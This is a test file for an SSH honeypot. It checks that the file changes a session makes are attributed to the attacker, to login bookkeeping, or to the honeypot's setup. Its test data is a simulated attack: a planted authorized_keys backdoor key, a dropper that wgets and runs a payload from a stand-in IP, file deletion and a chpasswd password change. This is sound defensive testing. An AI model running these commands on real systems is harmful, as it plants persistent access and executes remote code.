"""A session's changed files are the attacker's changes, with the login's bookkeeping apart (issue 19, item 1).

The real engine and the stock OpenSSH client on 127.0.0.1: a scripted session appends a key to
``~/.ssh/authorized_keys``, writes ``/tmp/b.sh`` and deletes a file. Its ``sandtrap.session.file_changed`` events
list exactly those as ``origin: attacker``; what sshd's session writes for any login (wtmp, lastlog, auth.log,
the password line in /etc/shadow) is there as ``origin: login``; what the honeypot itself did before the session
(honeytokens, host keys, /etc/hosts, machine-id) is not listed at all.
"""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from sandtrap.bridge.honeytokens import generate
from sandtrap.events import SESSION_CLOSED, SESSION_FILE_CHANGED, Event

from sshclient import run, ssh_argv

pytestmark = pytest.mark.timeout(180)

Honeypot = Callable[..., Any]
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHVzZXJAYm90bmV0IGtleSBmb3IgdGhlIHRlc3Q= bot@c2"
DROPPER = b"#!/bin/sh\ncd /tmp && wget -q http://203.0.113.9/x && sh x\n"
ATTACK = (
    f"echo '{KEY}' >> ~/.ssh/authorized_keys && printf '%s' '{DROPPER.decode()}' > /tmp/b.sh && "
    "chmod +x /tmp/b.sh && rm -f /etc/issue.net"
)
# What the honeypot writes into a box before any session: never the session's.
SETUP = {"/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/etc/machine-id", "/.dockerenv"}
SETUP |= {t.path for t in generate()}


def by_origin(events: list[Event], origin: str) -> dict[str, str]:
    return {e.get("filename"): e.get("kind") for e in events if e.get("origin") == origin}


async def session_changes(
    hp: Any, command: str, user: str = "root", password: str = "hunter2", tty: bool = False
) -> list[Event]:
    closed = len(hp.events(SESSION_CLOSED))
    r = await run(ssh_argv(hp.port, command, ["-tt"] if tty else [], user=user, password=password))
    assert r.returncode == 0, r.err
    [*_, last] = await hp.wait_for(SESSION_CLOSED, count=closed + 1, timeout_s=60)
    return hp.events(SESSION_FILE_CHANGED, session=last.session)


async def test_a_scripted_session_lists_exactly_its_own_changes_and_the_bookkeeping_apart(honeypot: Honeypot) -> None:
    hp = await honeypot()
    events = await session_changes(hp, ATTACK, tty=True)  # with a pty: sshd records the login in wtmp and lastlog
    attacker = by_origin(events, "attacker")
    assert attacker == {"/root/.ssh/authorized_keys": "A", "/tmp/b.sh": "A", "/etc/issue.net": "D"}, events
    login = by_origin(events, "login")
    print(f"[changed files] attacker {sorted(attacker)}; login {sorted(login)}; system {by_origin(events, 'system')}")
    assert {"/var/log/wtmp", "/run/utmp", "/var/log/auth.log", "/etc/shadow"} <= set(login), login
    assert not SETUP & {e.get("filename") for e in events}, events
    # The attacker's contents are stored as before; the login records and logs are metadata only.
    [dropper] = [e for e in events if e.get("filename") == "/tmp/b.sh"]
    assert dropper.get("stored") is True and dropper.get("shasum") == hashlib.sha256(DROPPER).hexdigest()
    records = {"/var/log/wtmp", "/run/utmp", "/var/log/auth.log"}
    assert not [e for e in events if e.get("filename") in records and e.get("stored")]
    # The API (over its socket) and the session page say the same, the bookkeeping apart.
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{hp.services.api.port}", timeout=30) as c:
        url = f"/api/v1/sessions/{events[0].session}"
        async with asyncio.timeout(30):
            while len((detail := (await c.get(url)).json()).get("artifacts", [])) < len(events):
                await asyncio.sleep(0.2)
        api = {a["path"]: a["origin"] for a in detail["artifacts"]}
        assert api == {e.get("filename"): e.get("origin") for e in events}
        assert detail["artifacts_count"] == 3
        page = (await c.get(f"/sessions/{events[0].session}")).text
        shown = page[page.index('id="changed-files"') : page.index('<details id="bookkeeping">')]
        assert "/tmp/b.sh" in shown and "/var/log/wtmp" not in shown


async def test_a_new_accounts_home_and_passwd_lines_are_the_logins(honeypot: Honeypot) -> None:
    creds = [{"username": "root", "password": "hunter2"}, {"username": "oracle", "password": "Winter2024"}]
    hp = await honeypot(auth={"credentials": creds})
    events = await session_changes(hp, "echo hi > /tmp/mine", user="oracle", password="Winter2024")
    assert by_origin(events, "attacker") == {"/tmp/mine": "A"}, events
    login = by_origin(events, "login")
    assert {"/etc/passwd", "/etc/shadow", "/home/oracle/.bashrc"} <= set(login), login


async def test_a_root_password_change_is_the_attackers(honeypot: Honeypot) -> None:
    hp = await honeypot()
    events = await session_changes(hp, "echo 'daemon:owned' | chpasswd")
    assert by_origin(events, "attacker").get("/etc/shadow") == "C", events


async def test_a_box_shared_by_an_ip_lists_what_each_session_did_since_the_last(honeypot: Honeypot) -> None:
    hp = await honeypot(sandbox={"affinity": "source_ip"})
    first = await session_changes(hp, "echo one > /tmp/one")
    assert by_origin(first, "attacker") == {"/tmp/one": "A"}, first
    second = await session_changes(hp, "echo two > /tmp/two && echo more >> /tmp/one")
    assert by_origin(second, "attacker") == {"/tmp/two": "A", "/tmp/one": "C"}, second
